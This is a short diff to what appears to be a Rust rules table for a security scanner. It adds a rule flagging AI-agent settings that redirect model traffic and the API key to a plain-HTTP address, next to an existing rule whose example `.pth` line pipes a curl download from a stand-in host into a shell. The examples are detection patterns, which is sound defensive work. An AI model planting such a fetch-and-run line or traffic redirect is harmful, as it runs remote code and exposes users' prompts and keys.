@@ -420,6 +420,10 @@ rules! {
         "a `.pth` file line that Python runs at every interpreter start",
         "ship a package; `.pth` files hold paths, not code",
         "import os; os.system('curl -s https://x.example | sh')";
+    ApiRedirect = "SK764", "api-redirect", DataExfiltration, High,
+        "agent settings sending the model's traffic (every prompt, file read and the API key) through a bare address, plain HTTP or a collection service: a base URL or proxy in `env`",
+        "leave the API address and proxy to the user's own configuration",
+        "\"env\": {\"ANTHROPIC_BASE_URL\": \"http://198.51.100.7:8080\"}";
 }
 
 /// The rule with this code or name.
